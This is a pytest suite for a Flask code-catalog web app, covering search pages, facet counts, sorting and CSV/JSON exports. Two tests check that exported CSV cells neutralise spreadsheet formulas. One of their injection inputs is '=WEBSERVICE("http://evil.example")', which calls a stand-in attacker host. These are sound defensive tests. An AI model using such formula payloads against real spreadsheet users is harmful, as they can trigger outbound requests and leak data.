import csv
import io
import re
from html import unescape

import pytest
from flask import Flask
from flask.testing import FlaskClient

from headwater_catalog.query import FIELDS
from headwater_catalog.repositories import add_repository
from headwater_catalog.scan import scan
from headwater_web.app import create_app
from headwater_web.spreadsheets import csv_answer
from support.demo_catalog import settings_in
from support.empty_catalog import empty_catalog


def test_the_page_explains_every_term_of_the_language(client: FlaskClient):
    html = unescape(client.get("/search").text)

    for field in FIELDS.values():
        assert f"<code>{field.example}</code>" in html
        assert field.help in html


def test_each_count_beside_a_term_is_that_of_the_list_behind_it(client: FlaskClient):
    html = client.get("/search?q=spend+OR+signups&repo=demo").text
    facets = re.findall(r'<a class="mono" href="(/search[^"]*)">[^<]*</a> <span class="push">([\d,]+)<', html)

    assert len(facets) > 5
    for link, count in facets[::3]:
        assert f"{count} feature{'s' * (count != '1')} in " in client.get(unescape(link)).text, link


def test_a_query_may_look_at_another_moment_and_compare_with_a_base(client: FlaskClient):
    then = client.get("/search?q=at:v1.0&repo=demo").text
    new = client.get("/search?q=new:feature&base=v1.0&repo=demo").text

    assert re.search(r"\d+ features in ", then)
    assert re.search(r"\d+ features? in ", new)
    assert "none is given" in client.get("/search?q=new:feature&repo=demo").text


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(text.splitlines()))


def test_the_table_has_just_what_the_page_counts(client: FlaskClient):
    for query in ("", "q=spend", "q=owner:nobody", "q=spend&repo=demo&at=v1.0"):
        page = client.get(f"/search?{query}").text
        counted = re.search(r"([\d,]+) features? in ", page)
        assert counted
        answer = client.get(f"/search.csv?{query}")
        assert answer.mimetype == "text/csv"
        assert "attachment" in answer.headers["Content-Disposition"]
        assert len(_rows(answer.text)) == int(counted[1])
    assert client.get("/search.csv?q=ownr:x").status_code == 400


@pytest.mark.parametrize("text", ["=HYPERLINK(1)", "+1", "-1", "@SUM(1)", "\t=1", "\r=1"])
def test_a_table_holds_no_formulas(text: str):
    with Flask("table").test_request_context():
        answer = csv_answer("table", (text, "b", "c"), [(text, -1, None)])

    (((named, *_), (said, number, nothing)),) = [
        tuple(csv.reader(io.StringIO(answer.get_data(as_text=True), newline="")))
    ]
    assert named == f"'{text}"  # columns of a run's table have the names that feature code gave them
    assert (said, number, nothing) == (f"'{text}", "-1", "")


def test_what_stands_in_a_docstring_is_no_formula_in_the_table(tmp_path, git_repo):
    source = 'def sales(x: int) -> int:\n    """=WEBSERVICE("http://evil.example")"""\n    return x\n'
    git_repo.commit("One", files={"features/sales.py": source})
    settings = settings_in(tmp_path / "home")
    database = empty_catalog(settings.database_url)
    with database.write() as session:
        add_repository(session, "shop", str(git_repo.path), 0)
    scan(database, settings, "shop")
    (row,) = _rows(create_app(settings, database).test_client().get("/search.csv").text)
    database.dispose()

    assert row["summary"].startswith("'=WEBSERVICE")


def test_a_name_that_is_gone_leads_to_where_it_was(client: FlaskClient):
    gone = re.findall(r'data-hit href="/r/demo/f/([^"?]*:(\w+))\?at=(\w{40})"', _gone_page(client))
    assert gone
    names = [(key, name, sha) for key, name, sha in gone if "0 features in" in _found(client, name)]
    assert names, "every name that is gone is there again"
    for key, name, sha in names:
        page = client.get(f"/search?q={name}").text
        assert "It is gone" in page
        assert f"/r/demo/f/{key}?at={sha}" in unescape(page)


def _gone_page(client: FlaskClient) -> str:
    return unescape(client.get("/search?q=removed:<100y&repo=demo").text)


def _found(client: FlaskClient, name: str) -> str:
    return client.get(f"/search?q={name}").text


def test_a_feature_that_is_gone_is_shown_at_its_last_commit(client: FlaskClient):
    html = client.get("/search?q=removed:<100y&repo=demo").text
    gone = re.findall(r'data-hit href="([^"]*\?at=\w{40})"', html)

    for link in gone[:3]:
        assert client.get(unescape(link)).status_code == 200
    assert html.count('<span class="chip">gone</span>') == len(gone)


def test_the_order_of_hits_stands_in_the_address_and_in_the_files(client: FlaskClient):
    page = client.get("/search?q=spend&repo=demo").text
    links = re.findall(r'<a href="(/search[^"]*sort=(\w+)[^"]*)">', page)

    assert [name for _, name in links] == ["name", "module", "changed", "used"]
    for link, name in links:
        html = client.get(unescape(link)).text
        hits = re.findall(r'data-hit href="/r/demo/f/([^"?]*)', html)
        listed = client.get(unescape(link).replace("/search?", "/search.json?")).json["items"]
        assert [item["key"] for item in listed] == hits
        assert f'<input type="hidden" name="sort" value="{name}">' in html
    assert client.get("/search?q=spend&sort=nonsense").status_code == 200
